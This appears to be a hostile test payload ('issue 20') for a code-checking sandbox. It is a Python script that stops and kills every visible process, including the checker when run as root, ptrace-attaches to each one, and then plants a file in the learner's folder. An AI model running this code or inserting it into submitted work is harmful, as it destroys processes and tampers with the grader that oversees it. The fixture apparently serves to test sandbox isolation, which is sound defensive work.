# Payload (issue 20): stop, kill or trace every other process it can see (as root: the
# checker too), then write into the learner's own folder.
import ctypes
import os
import signal

_libc = ctypes.CDLL(None, use_errno=True)
for _pid in {os.getppid(), *[int(p) for p in os.listdir("/proc") if p.isdigit()]} - {0, os.getpid()}:
    for _sig in (signal.SIGSTOP, signal.SIGKILL):
        try:
            os.kill(_pid, _sig)
        except OSError:
            pass
    _libc.ptrace(16, _pid, None, None)  # PTRACE_ATTACH
with open(r"{learner}/planted.py", "w") as _f:
    _f.write("print('planted by the checked file')\n")
